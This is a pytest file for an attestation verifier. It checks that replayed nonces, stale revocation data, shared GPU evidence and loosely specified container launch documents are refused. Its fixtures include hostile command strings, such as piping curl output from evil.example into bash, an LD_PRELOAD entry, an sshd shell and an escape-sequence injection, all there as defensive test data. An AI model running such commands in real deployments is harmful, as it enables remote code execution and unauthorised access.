"""SIMULATED hostile operators, and relying parties who are careless: what must not be accepted.

Each test is one way in that was tried. The service is honest but for the one thing that the test
does; the claim that the attack is about is named, and may not pass.
"""

from __future__ import annotations

import base64
import json
from dataclasses import replace
from functools import cache
from typing import TYPE_CHECKING, Any

import pytest
import reader_cases as cases
from services import LATER, LOOK, NONCE, NOW, NearCase, near_case, near_policy

import confide
from confide.appraisal.claim_names import ClaimName
from confide.appraisal.nvidia_policy import GpuMode
from confide.appraisal.provenance import Proofs, SigstoreProof
from confide.appraisal.service_devices import judge_devices
from confide.appraisal.service_launch import _key_provider
from confide.appraisal.service_ledger import Ledger
from confide.appraisal.service_policy import ProvenanceSection
from confide.appraisal.service_workload import judge_workload
from confide.appraisal.tdx_policy import UnsafeAny
from confide.errors import EvidenceRejected, PolicyRejected, Reason, Rejected
from confide.formats.verify import read_evidence, verify
from confide.rats import Status
from confide.simulator.near import SimulatedNear, encode_report
from confide.simulator.nvidia import SimulatedGpuSet, simulated_nvidia_roots
from confide.simulator.nvidia_gpu import SimulatedGpu
from confide.simulator.snp import SimulatedSnpLaunch, SimulatedSnpMachine
from confide.simulator.snp_faults import SnpFault
from confide.simulator.tdx import SimulatedTdxPlatform
from confide.simulator.tdx_faults import TdxFault
from confide.trust.roots import make_simulated_roots
from confide.wire.bundle import encode_bundle
from confide.wire.endorsements import Endorsements, SnpEndorsement
from confide.wire.json import b64encode, jcs
from confide.wire.service import Capture, LaunchDocument

if TYPE_CHECKING:
    from collections.abc import Callable

    from confide.appraisal.service_policy import Policy
    from confide.rats import AttestationResult
    from confide.trust.roots import Roots
    from confide.wire.evidence import GpuEvidence

CASE = cache(near_case)
OTHER_NONCE = b"\x5a" * 32


def outcome(call: Callable[[], AttestationResult]) -> AttestationResult:
    """The result, whether it was accepted or refused."""
    try:
        return call()
    except Rejected as error:
        assert error.result is not None
        return error.result


def refused(call: Callable[[], object]) -> Rejected:
    with pytest.raises(Rejected) as caught:
        call()
    assert caught.value.result is not None
    return caught.value


def status(result: AttestationResult | None, name: str) -> Status:
    assert result is not None
    return result.claim(name).status


# --- nonces and connections -----------------------------------------------------------------------


@cache
def gpu_set() -> SimulatedGpuSet:
    return SimulatedGpuSet(cases.SEED, (SimulatedGpu(),), now=cases.NOW)


@cache
def roots() -> Roots:
    return make_simulated_roots(cases.platform().anchor(), simulated_nvidia_roots(cases.SEED))


def dstack_documents(nonce: bytes, devices: tuple[GpuEvidence, ...]) -> dict[str, bytes]:
    """An answer of the guest over `nonce`, beside evidence of devices asked for apart."""
    entries = [
        {"arch": "HOPPER", "evidence": b64encode(d.report), "certificate": b64encode(d.chain_pem)}
        for d in devices
    ]
    bundle = {
        "vendor": "nvidia",
        "format": "nvidia-nvattest-collect-evidence-json-v1",
        "evidence": json.dumps({"evidences": entries}),
    }
    answer = {
        "quote": cases.quote(nonce + bytes(32)).hex(),
        "event_log": "[]",
        "report_data": nonce.hex(),
    }
    return {"quote": json.dumps(answer).encode(), "gpu": json.dumps({"bundles": [bundle]}).encode()}


def test_the_nonce_of_a_bundle_does_not_make_recorded_devices_fresh() -> None:
    """The processor signs today's nonce; the devices are of last year, and so is the bundle's."""
    documents = dstack_documents(cases.NONCE, gpu_set().collect(OTHER_NONCE))
    capture = Capture(documents=documents, format="dstack", nonce=OTHER_NONCE)
    own = Endorsements(
        tdx=(cases.platform().collateral(),), nvidia=gpu_set().endorsements(cases.NOW)
    )
    look = replace(LOOK, claims=replace(LOOK.claims, unsafe_tolerate=UnsafeAny()))
    result = outcome(
        lambda: verify(
            encode_bundle(capture, own),
            own,
            look,
            now=cases.NOW,
            roots=roots(),
            nonce=cases.NONCE,
        )
    )
    assert status(result, "freshness") is Status.PASS
    assert status(result, "gpu") is Status.PASS
    assert status(result, "gpu-freshness") is not Status.PASS


def test_a_bundle_does_not_say_where_the_callers_connection_ended() -> None:
    case = CASE()
    bundle = encode_bundle(case.capture, case.endorsements)
    policy = near_policy(case)
    error = refused(
        lambda: confide.verify(
            bundle, Endorsements(), policy, now=LATER, roots=case.roots, nonce=NONCE
        )
    )
    assert type(error) is PolicyRejected
    assert status(error.result, "tls") is Status.NOT_PROVEN


def test_a_bundle_whose_connection_ended_elsewhere_says_so() -> None:
    case = CASE()
    between = replace(case.capture, tls_spki_sha256=bytes(32))
    error = refused(
        lambda: confide.verify(
            encode_bundle(between, case.endorsements),
            Endorsements(),
            near_policy(case),
            now=LATER,
            roots=case.roots,
            nonce=NONCE,
        )
    )
    assert status(error.result, "tls") is Status.FAIL


@pytest.mark.parametrize("kind", ["capture", "evidence"])
def test_a_nonce_that_is_given_stands_before_that_of_a_capture(kind: str) -> None:
    """Whoever passes what came out of a bundle, and the nonce they drew, means the latter."""
    case = CASE()
    given: Any = case.capture if kind == "capture" else read_evidence(case.capture)[0]
    error = refused(
        lambda: confide.verify(
            given,
            case.endorsements,
            near_policy(case),
            now=LATER,
            roots=case.roots,
            nonce=OTHER_NONCE,
        )
    )
    assert status(error.result, "freshness") is Status.FAIL


@pytest.mark.parametrize("nonce", [b"", b"\x00", NONCE[:31], NONCE + b"\x00", bytes(32)])
def test_another_nonce_of_any_length_is_not_the_callers(nonce: bytes) -> None:
    case = CASE()
    replayed = replace(case.capture, nonce=nonce)
    error = refused(
        lambda: confide.verify(
            replayed, case.endorsements, near_policy(case), now=LATER, roots=case.roots
        )
    )
    assert status(error.result, "freshness") is Status.FAIL


# --- revocation -----------------------------------------------------------------------------------


def test_older_collateral_does_not_undo_a_revocation() -> None:
    """The caller's list names the PCK; the service brings the list of the week before."""
    case = CASE()
    revoking = SimulatedTdxPlatform(b"service tests", NOW, TdxFault.REVOKED_PCK).collateral()
    (older,) = case.endorsements.tdx
    for offered in ((revoking, older), (revoking,)):
        error = refused(
            lambda offered=offered: confide.verify(  # type: ignore[misc]
                case.capture,
                replace(case.endorsements, tdx=offered),
                near_policy(case),
                now=LATER,
                roots=case.roots,
            )
        )
        assert error.reason is Reason.CERT_REVOKED
        assert status(error.result, "hardware") is Status.FAIL


@pytest.mark.parametrize("order", [1, -1])
def test_certificates_without_a_list_do_not_undo_a_revocation(order: int) -> None:
    machine = SimulatedSnpMachine(cases.SEED, cases.NOW)
    revoking = SimulatedSnpMachine(cases.SEED, cases.NOW, fault=SnpFault.REVOKED_LEAF)
    report = machine.report(SimulatedSnpLaunch(measurement=b"m" * 48), report_data=bytes(64))
    offered = (
        SnpEndorsement(
            leaf_der=revoking.leaf_der, chain_pem=revoking.chain_pem, crl_der=revoking.crl_der
        ),
        SnpEndorsement(leaf_der=machine.leaf_der, chain_pem=machine.chain_pem, crl_der=None),
    )[::order]
    both = make_simulated_roots(
        cases.platform().anchor(), simulated_nvidia_roots(cases.SEED), machine.roots()
    )
    error = refused(
        lambda: verify(
            report, Endorsements(snp=offered), LOOK, now=cases.NOW, roots=both, nonce=NONCE
        )
    )
    assert type(error) is EvidenceRejected
    assert error.reason is Reason.CERT_REVOKED


# --- one machine for two --------------------------------------------------------------------------


def two_models(edit: Callable[[list[Any]], None]) -> tuple[SimulatedNear, Capture]:
    """A gateway with two model machines, and its report after `edit` of the two."""
    near = SimulatedNear(b"service tests", NOW, nodes=2, gpus=1, mode=GpuMode.SPT)
    document: Any = json.loads(encode_report(near.gateway_report(NONCE)))
    edit(document["model_attestations"])
    raw = json.dumps(document).encode()
    return near, replace(
        CASE().capture, documents={"report": raw}, tls_spki_sha256=near.gateway.spki_sha256
    )


def look_at(near: SimulatedNear, capture: Capture, **claims: Any) -> AttestationResult:
    policy = replace(LOOK, claims=replace(LOOK.claims, **claims))
    endorsements = near.endorsements(NOW)
    return outcome(
        lambda: confide.verify(capture, endorsements, policy, now=LATER, roots=near.roots())
    )


def test_one_set_of_devices_does_not_stand_for_two_machines() -> None:
    def share(models: list[Any]) -> None:
        models[1]["nvidia_payload"] = models[0]["nvidia_payload"]

    honest = look_at(*two_models(lambda _: None))
    assert status(honest, "gpu") is Status.PASS
    result = look_at(*two_models(share))
    assert [status(part, "gpu") for part in result.parts[1:]] == [Status.FAIL, Status.FAIL]
    assert result.findings[0].reason is Reason.DUPLICATE_DEVICE


def test_one_machine_shown_twice_is_said() -> None:
    def repeat(models: list[Any]) -> None:
        models[1] = {**models[0], "model_name": "simulated/another"}

    result = look_at(*two_models(repeat))
    assert status(result, "gpu") is Status.PASS
    assert any("show one machine, twice" in limit for limit in result.limits)


def test_two_attesters_of_one_name_are_not_judged() -> None:
    evidence = read_evidence(CASE().capture)[0]
    same = tuple(replace(item, name="machine") for item in evidence.attesters)
    with pytest.raises(ValueError, match="name"):
        confide.verify(
            replace(evidence, attesters=same),
            CASE().endorsements,
            LOOK,
            now=LATER,
            roots=CASE().roots,
        )


def test_a_gateway_that_shows_bad_devices_is_refused_for_them() -> None:
    """Nobody asks a gateway for devices; what it shows counts."""
    near, capture = two_models(lambda _: None)
    document = json.loads(capture.documents["report"])
    payload = json.loads(document["model_attestations"][0]["nvidia_payload"])
    raw = bytearray(base64.b64decode(payload["evidence_list"][0]["evidence"]))
    raw[2000] ^= 1
    payload["evidence_list"][0]["evidence"] = base64.b64encode(raw).decode()
    document["gateway_attestation"]["nvidia_payload"] = payload
    edited = replace(capture, documents={"report": json.dumps(document).encode()})
    assert status(look_at(near, edited).parts[0], "gpu") is Status.FAIL


# --- lists ----------------------------------------------------------------------------------------


def listing(policy: Policy, **lists: frozenset[str]) -> Policy:
    return replace(policy, tdx=replace(policy.tdx, **lists))


@pytest.mark.parametrize(
    ("register", "claim"), [("rtmr3", "event-log"), ("mrconfigid", "workload")]
)
def test_a_list_is_kept_to_also_where_the_value_follows_from_a_log(
    register: str, claim: str
) -> None:
    """RTMR3 replays, MRCONFIGID names the app: that makes neither the one that was listed."""
    case = CASE()
    policy = near_policy(case)
    assert accepted(case, policy)
    other = listing(policy, **{register: frozenset({"00" * 47 + "01"})})
    error = refused(lambda: judge(case, other))
    assert status(error.result, claim) is Status.FAIL


def test_combining_a_list_with_an_empty_one_accepts_nothing_that_either_refuses() -> None:
    case = CASE()
    empty = near_policy(case)
    other = listing(empty, rtmr3=frozenset({"00" * 48}))
    for pair in (
        (empty, other),
        (other, empty),
        (other, listing(empty, rtmr3=frozenset({"11" * 48}))),
    ):
        both = pair[0].both(pair[1])
        assert both.tdx.rtmr3 == {"none"}
        assert not accepted(case, both)
        assert not accepted(case, both.both(empty))
    assert accepted(case, empty.both(empty))


def judge(case: NearCase, policy: Policy, **changes: Any) -> AttestationResult:
    capture = changes.pop("capture", case.capture)
    endorsements = changes.pop("endorsements", case.endorsements)
    return confide.verify(
        capture, endorsements, policy, **{"now": LATER, "roots": case.roots, **changes}
    )


def accepted(case: NearCase, policy: Policy) -> bool:
    try:
        judge(case, policy)
    except Rejected:
        return False
    return True


@pytest.mark.parametrize("claim", ["launch", "images-pinned", "workload-expected", "gpu"])
def test_a_claim_that_is_required_and_tolerated_is_required(claim: str) -> None:
    case = CASE()
    policy = near_policy(case)
    policy = replace(
        policy,
        claims=replace(policy.claims, unsafe_tolerate=UnsafeAny()),
        tdx=replace(policy.tdx, mrtd=frozenset[str]()),
        workload=replace(policy.workload, documents=frozenset({"00" * 32})),
        nvidia=replace(policy.nvidia, counts=frozenset({"8"})),
    )
    required = replace(policy, claims=replace(policy.claims, require=frozenset({claim})))
    if claim == "images-pinned":
        assert accepted(case, required)
    else:
        error = refused(lambda: judge(case, required))
        assert status(error.result, claim) is Status.FAIL


@pytest.mark.parametrize("claim", ["gpu-colocation", "physical-attack", "model-weights"])
def test_a_claim_that_nothing_makes_refuses_whoever_requires_it(claim: str) -> None:
    case = CASE()
    policy = near_policy(case)
    policy = replace(policy, claims=replace(policy.claims, require=frozenset({claim})))
    assert refused(lambda: judge(case, policy)).reason is Reason.CLAIM_NOT_PROVEN


def test_simulated_devices_under_a_policy_for_real_ones() -> None:
    """Roots of which one alone is simulated: what hangs under it is refused on its own."""
    case = CASE()
    evidence = read_evidence(case.capture)[0]
    ledger = Ledger("model[0]")
    judge_devices(
        evidence.attesters[1],
        evidence,
        case.endorsements.nvidia,
        key_sets=(),
        roots=case.roots.nvidia,
        policy=replace(near_policy(case), unsafe_simulated=False),
        now=LATER,
        ledger=ledger,
    )
    assert ledger.claims[ClaimName.GPU].status is Status.FAIL
    assert ledger.reasons[ClaimName.GPU] is Reason.SIMULATED_NOT_ALLOWED


# --- key providers --------------------------------------------------------------------------------


@pytest.mark.parametrize("documents", ["bare", "without a log", "tinfoil"])
def test_a_list_of_key_providers_refuses_evidence_that_shows_none(documents: str) -> None:
    shown = {
        "bare": {"document": cases.quote()},
        "without a log": {"quote": cases.quote()},
        "tinfoil": {"document": jcs(cases.enclave().v3(cases.NONCE))},
    }[documents]
    capture = Capture(
        documents=shown, nonce=cases.NONCE, format="dstack" if "quote" in shown else ""
    )
    own = Endorsements(tdx=(cases.platform().collateral(),))
    claims = replace(LOOK.claims, unsafe_tolerate=frozenset[str]())
    workload = replace(LOOK.workload, key_providers=frozenset({"none", "kms"}))
    policy = replace(LOOK, claims=claims, workload=workload)
    error = refused(lambda: verify(capture, own, policy, now=cases.NOW, roots=roots()))
    assert status(error.result, "key-lifetime") is Status.FAIL
    verify(capture, own, replace(LOOK, claims=claims), now=cases.NOW, roots=roots())


def test_a_key_provider_with_a_name_of_its_own_is_not_shown_as_text() -> None:
    ledger = Ledger("machine")
    wanted = replace(LOOK.workload, key_providers=frozenset({"kms"}))
    _key_provider("kms\x1b[2J", replace(LOOK, workload=wanted), ledger)
    claim = ledger.claims[ClaimName.KEY_LIFETIME]
    assert claim.status is Status.FAIL
    assert claim.value.isprintable()


# --- launch documents -----------------------------------------------------------------------------

DIGEST = "ab" * 32
COMPLETE, PINNED, ACCESS = (
    ClaimName.WORKLOAD_COMPLETE,
    ClaimName.IMAGES_PINNED,
    ClaimName.OPERATOR_ACCESS,
)
CLOSED: dict[str, Any] = {
    "manifest_version": 2,
    "name": "closed",
    "runner": "docker-compose",
    "public_logs": False,
    "public_sysinfo": False,
    "public_tcbinfo": False,
    "kms_enabled": False,
    "allowed_envs": [],
}


def measured(document: bytes, policy: Policy = LOOK) -> Ledger:
    """What a measured launch document leaves of its claims."""
    ledger = Ledger("machine")
    ledger.proven(ClaimName.WORKLOAD, "service/6", "hardware", "")
    launch = LaunchDocument(kind="dstack-compose", raw=document)
    judge_workload(launch, Proofs(), policy=policy, ledger=ledger)
    return ledger


def app(compose: dict[str, Any] | str, **members: Any) -> bytes:
    text = compose if isinstance(compose, str) else json.dumps(compose)
    return json.dumps({**CLOSED, "docker_compose_file": text, **members}).encode()


def service(**members: Any) -> dict[str, Any]:
    return {"services": {"web": {"image": f"example/app@sha256:{DIGEST}", **members}}}


def test_a_closed_document_proves_its_claims() -> None:
    ledger = measured(app(service(command=["serve", "--cost", "$$5"], environment=["A=1"])))
    assert {name for name in (COMPLETE, PINNED, ACCESS) if ledger.holds(name)} == {
        COMPLETE,
        PINNED,
        ACCESS,
    }


_HOLES: dict[str, tuple[dict[str, Any], ClaimName]] = {
    "the operator chooses the command": (service(command="sh -c ${CODE}"), COMPLETE),
    "a default command": (service(command=["sh", "-c", "${CODE:-true}"]), COMPLETE),
    "the operator chooses the entrypoint": (service(entrypoint=["$ENTRY"]), COMPLETE),
    "the operator chooses the probe": (service(healthcheck={"test": "${PROBE}"}), COMPLETE),
    "code from the network": (service(command="bash -c 'curl -s evil.example | bash'"), COMPLETE),
    "a package at start": (service(entrypoint=["sh", "-c", "pip install x && run"]), COMPLETE),
    "an address in a list": (service(command=["run", "https://evil.example/x"]), COMPLETE),
    "a probe that runs": (service(healthcheck={"test": "curl x | sh"}), COMPLETE),
    "a loader's environment": (service(environment=["LD_PRELOAD"]), COMPLETE),
    "an interpreter's options": (service(environment={"NODE_OPTIONS": "${N}"}), COMPLETE),
    "a shell in the command": (service(command="/usr/sbin/sshd -D"), ACCESS),
    "the operator's environment": (service(environment={"UPSTREAM": "${U}"}), ACCESS),
    "a range of ports": (service(ports=["2000-2010:20-30"]), ACCESS),
    "a bind mount by name": (service(volumes=[{"type": "bind", "source": "run"}]), COMPLETE),
    "a mounted image": (service(volumes=[{"type": "image", "source": "x:latest"}]), COMPLETE),
    "models": (service(models=["m"]), COMPLETE),
    "containers of others": (service(external_links=["other"]), COMPLETE),
    "labels of the host": (service(label_file="x"), COMPLETE),
    "devices in deploy": (
        service(deploy={"resources": {"reservations": {"devices": [{"driver": "cdi"}]}}}),
        COMPLETE,
    ),
    "devices in gpus": (service(gpus=[{"driver": "vfio"}]), COMPLETE),
    "a network of others": (
        {**service(), "networks": {"default": {"external": True}}},
        COMPLETE,
    ),
    "the network of the host": ({**service(), "networks": {"n": {"name": "host"}}}, COMPLETE),
    "a volume of others": ({**service(), "volumes": {"v": {"external": True}}}, COMPLETE),
    "a volume on the network": (
        {**service(), "volumes": {"v": {"driver_opts": {"type": "nfs", "device": ":/x"}}}},
        COMPLETE,
    ),
    "an unknown element": ({**service(), "plugins": {}}, COMPLETE),
    "services elsewhere": ({"include": ["other.yaml"], "services": {}}, PINNED),
    "no services": ({"services": {}}, PINNED),
}


@pytest.mark.parametrize("name", _HOLES)
def test_a_document_that_leaves_a_hole_does_not_prove_the_claim(name: str) -> None:
    compose, claim = _HOLES[name]
    assert not measured(app(compose)).holds(claim)


@pytest.mark.parametrize(
    ("members", "claim"),
    [
        ({"features": ["kms"]}, ClaimName.KEY_LIFETIME),
        ({"hooks": {"start": "x"}}, COMPLETE),
        ({"requirements": {"gpu_policy": {"allow_devtools": True}}}, ClaimName.GPU),
    ],
    ids=["features", "unknown", "gpu policy"],
)
def test_an_app_compose_that_leaves_a_hole(members: dict[str, Any], claim: ClaimName) -> None:
    ledger = measured(app(service(), **members))
    assert ledger.status(claim) in {Status.NOT_PROVEN, Status.FAIL}


@pytest.mark.parametrize(
    "compose",
    [
        "services:\n  a:\n    image: x@sha256:00\n    image: y\n",
        "services: &a\n  b: *a\n",
        "services:\n  a: !reset null\n",
        "services:\n  a:\n    image: x\n---\nservices: {}\n",
    ],
    ids=["twice", "cycle", "tag", "second document"],
)
def test_yaml_that_others_read_otherwise_proves_nothing(compose: str) -> None:
    ledger = measured(app(compose))
    assert not any(ledger.holds(name) for name in (COMPLETE, PINNED, ACCESS))


def test_a_merged_member_is_judged_like_a_written_one() -> None:
    text = (
        f"x-a: &a\n  image: x@sha256:{DIGEST}\n  privileged: true\nservices:\n  web:\n    <<: *a\n"
    )
    assert measured(app(text)).status(COMPLETE) is Status.FAIL


def test_json_that_others_read_otherwise_proves_nothing() -> None:
    raw = app(service()).replace(b'"runner"', b'"runner": "bash", "runner"')
    assert not any(measured(raw).holds(name) for name in (COMPLETE, PINNED, ACCESS))


def test_an_image_that_is_built_on_the_machine_has_nobody_who_vouches_for_it() -> None:
    """One image is signed; the other service is whatever the machine builds."""
    compose = service()
    compose["services"]["other"] = {"build": "."}
    policy = replace(LOOK, provenance=ProvenanceSection(identities=frozenset({"https://i me"})))
    proof = SigstoreProof(
        sha256=bytes.fromhex(DIGEST),
        issuer="https://i",
        identity="me",
        predicate_type="",
        payload=b"",
        integrated_time=None,
        log_index=0,
        root_sha256="",
        public_good=False,
    )
    for document, holds in ((app(service()), True), (app(compose), False)):
        ledger = Ledger("machine")
        ledger.proven(ClaimName.WORKLOAD, "service/6", "hardware", "")
        launch = LaunchDocument(kind="dstack-compose", raw=document)
        judge_workload(launch, Proofs((proof,)), policy=policy, ledger=ledger)
        assert ledger.holds(ClaimName.IMAGE_PROVENANCE) is holds


def test_who_else_can_quote_is_counted() -> None:
    ledger = Ledger("machine")
    launch = LaunchDocument(
        kind="dstack-compose",
        raw=app(service(volumes=["/var/run/dstack.sock:/var/run/dstack.sock"])),
    )
    (limit,) = judge_workload(launch, Proofs(), policy=LOOK, ledger=ledger)
    assert "machine: 1 mount(s)" in limit
